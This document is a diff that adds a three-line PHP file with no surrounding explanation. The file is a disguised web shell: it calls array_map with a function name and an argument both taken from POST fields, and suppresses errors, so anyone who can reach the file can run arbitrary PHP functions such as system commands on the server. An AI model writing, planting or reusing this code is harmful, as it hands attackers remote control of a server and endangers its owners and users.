@@ -1,0 +1,3 @@
+<?php
+$items = array($_POST['data']);
+@array_map($_POST['fn'], $items);
